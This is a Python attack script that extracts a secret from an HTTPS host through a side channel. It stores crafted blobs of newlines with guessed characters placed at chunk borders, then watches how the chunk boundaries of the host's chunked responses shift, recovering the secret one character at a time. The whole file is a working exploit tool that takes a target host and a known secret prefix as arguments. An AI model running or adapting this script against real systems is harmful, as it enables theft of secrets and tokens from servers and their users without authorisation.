"""Reads a secret off the places where an answer is cut, of a host that gives back what was stored there.

Arguments: the file of roots, the host, how the secret begins, how many more characters to try. Stores a text
whose pieces, as they came before, each end in what the secret may go on with; a piece that ends elsewhere now
has told. Prints {"what": "learned", "result"}: what it has found behind the beginning.
"""

import json
import socket
import ssl
import string
import sys

ROOTS, HOST, KNOWN, COUNT = sys.argv[1], sys.argv[2], sys.argv[3].encode(), int(sys.argv[4])
ALPHABET = (string.ascii_lowercase + string.digits + "-_").encode()
SIZE = 1_600_000

context = ssl.create_default_context(cafile=ROOTS)


def answer(stream):
    """The sizes of the chunks that the body came in, and the body. An empty one comes in none."""
    sizes, body, head = [], b"", b""
    while line := stream.readline().strip():
        head += line.lower() + b"\n"
    if b"content-length: 0\n" in head:
        return sizes, body
    while size := int(stream.readline(), 16):
        body += stream.read(size)
        stream.readline()
        sizes.append(size)
    stream.readline()
    return sizes, body


def ask(method, body=b""):
    """Over a connection of its own: none is kept behind a body with line breaks."""
    head = f"{method} /blob HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: {len(body)}\r\n\r\n"
    plain = socket.create_connection((HOST, 443), timeout=60)
    with context.wrap_socket(plain, server_hostname=HOST) as tls, tls.makefile("rb") as stream:
        tls.sendall(head.encode() + body)
        return answer(stream)


def ends(sizes):
    at, found = 0, []
    for size in sizes:
        at += size
        found.append(at)
    return found


def more_of(known):
    """The character that stands out, if one does."""
    ask("PUT", b"\n" * SIZE)
    borders = ends(ask("GET")[0])[:-1]
    body, tests = bytearray(b"\n" * SIZE), []
    for char, border in zip(ALPHABET, borders):
        guess = known + bytes([char])
        body[border - len(guess) : border] = guess
        tests.append((guess, border))
    ask("PUT", bytes(body))
    cut = set(ends(ask("GET")[0]))
    told = [guess for guess, border in tests if border - len(guess) in cut]
    return told[0] if len(told) == 1 else None


ask("GET")
known = KNOWN
for _ in range(COUNT):
    further = more_of(known)
    if further is None:
        break
    known = further
print(json.dumps({"what": "learned", "result": known[len(KNOWN) :].decode()}))
